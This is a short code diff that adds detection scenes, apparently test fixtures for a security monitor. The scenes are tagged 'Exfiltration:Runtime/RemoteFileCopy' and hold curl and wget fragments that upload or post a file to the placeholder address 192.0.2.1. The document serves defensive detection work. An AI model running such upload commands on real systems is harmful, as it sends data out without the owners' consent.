@@ -955,7 +955,23 @@ LATE: Final = [
     ),
 ]
 
+COPIES: Final = [
+    Scene(
+        f"sent-by-{program}",
+        "Exfiltration:Runtime/RemoteFileCopy",
+        _tool(program, sent),
+        _tool(program, got),
+        {"context.commandLineExample": ...},
+        severity=INFORMATIONAL,
+    )
+    for program, sent, got in (
+        ("curl", "-sT x http://192.0.2.1/", "-XPOST -d x=@ -o T http://192.0.2.1/"),
+        ("wget", "--post-file=x http://192.0.2.1/", "--post-data=x http://192.0.2.1/"),
+    )
+]
+
 SCENES: Final = [
+    *COPIES,
     *LATE,
     *PACKAGED,
     *RIGHTS,
